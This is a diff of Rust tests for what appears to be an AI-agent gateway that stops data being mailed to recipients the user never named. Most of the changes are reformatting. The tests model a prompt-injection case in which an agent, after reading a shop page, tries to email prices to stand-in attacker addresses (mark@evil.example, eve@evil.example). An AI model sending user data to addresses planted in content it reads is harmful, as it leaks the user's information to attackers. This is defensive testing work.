@@ -65,11 +65,14 @@ fn question(answer: &Value) -> &str {
 async fn the_recipient_whom_the_user_named_needs_no_question_and_the_attackers_does() {
     let stage = setup().open().await;
     let agent = agent(&stage);
-    agent.is_told(&stage, "1", "Read https://shop.example/prices and send the prices to ada@example.com").await;
+    agent
+        .is_told(&stage, "1", "Read https://shop.example/prices and send the prices to ada@example.com")
+        .await;
     text(&agent.call(PAGE, json!({ "url": "https://shop.example/prices" })).await);
     refusal(&agent.call(SEND, letter("mark@evil.example")).await);
     assert_eq!(stage.server("mail").runs("send_email"), 0);
-    text(&agent.call(SEND, letter("ada@example.com")).await);
+    let sent = agent.call(SEND, letter("ada@example.com")).await;
+    text(&sent);
     assert_eq!(stage.server("mail").runs("send_email"), 1);
 }
 
@@ -158,7 +161,8 @@ async fn whom_a_person_approved_is_wanted_until_the_request_is_over() {
     );
     text(&agent.answer("tools/call", &params, &asked, json!({ "highwater_approval": yes() })).await);
     // The person has seen this recipient, so that another letter to them is no question.
-    let more = json!({ "to": "mark@evil.example", "subject": "More prices", "body": "Here are more prices." });
+    let more =
+        json!({ "to": "mark@evil.example", "subject": "More prices", "body": "Here are more prices." });
     text(&agent.call(SEND, more).await);
     assert_eq!(stage.server("mail").runs("send_email"), 2);
     refusal_or_question(&agent.call(SEND, letter("eve@evil.example")).await);
@@ -231,7 +235,8 @@ async fn the_gateway_asks_the_tools_of_the_directory_itself() {
     let script = mail();
     script.on("list_contacts", [Step::say(&listed)]);
     let setup = Setup::new().server("mail", script);
-    let stage = setup.with(|config| config["directory"] = json!([{ "tool": "mail:list_contacts" }])).open().await;
+    let stage =
+        setup.with(|config| config["directory"] = json!([{ "tool": "mail:list_contacts" }])).open().await;
     let agent = agent(&stage);
     assert_eq!(stage.server("mail").runs("list_contacts"), 0, "nobody has told words yet");
     agent.is_told(&stage, "1", "Send Ada Lovelace an email with the prices").await;
